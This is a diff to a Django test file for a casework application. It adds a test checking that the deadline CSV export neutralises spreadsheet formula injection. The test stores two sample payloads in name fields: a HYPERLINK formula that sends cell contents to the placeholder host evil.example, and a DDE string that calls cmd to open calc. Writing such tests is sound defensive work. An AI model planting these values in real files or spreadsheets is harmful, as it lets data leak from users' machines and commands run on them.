@@ -1,6 +1,9 @@
 """Every casework view, download, attachment and export, walked by every role."""
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -126,3 +129,19 @@ def test_it_shows_the_staff_dashboard_to_staff_only(client, cast, role, status):
 def test_it_sends_anonymous_staff_dashboard_visitors_to_the_login(client, cast):
     response = client.get(reverse("casework:staff_dashboard"))
     assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
+
+
+def test_it_neutralises_formulas_in_the_deadline_export(client, cast):
+    from dsar.cases.models import DataSubject
+
+    subject = DataSubject.objects.get(pk=cast.case_a.data_subject_id)
+    subject.name = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    subject.save(update_fields=["name"])
+    cast.request_a.organisation.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    cast.request_a.organisation.save(update_fields=["name"])
+
+    body = login(client, cast.worker_a).get(reverse("casework:deadlines_export")).content.decode()
+
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["name"] == "'" + subject.name
+    assert row["recipient"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
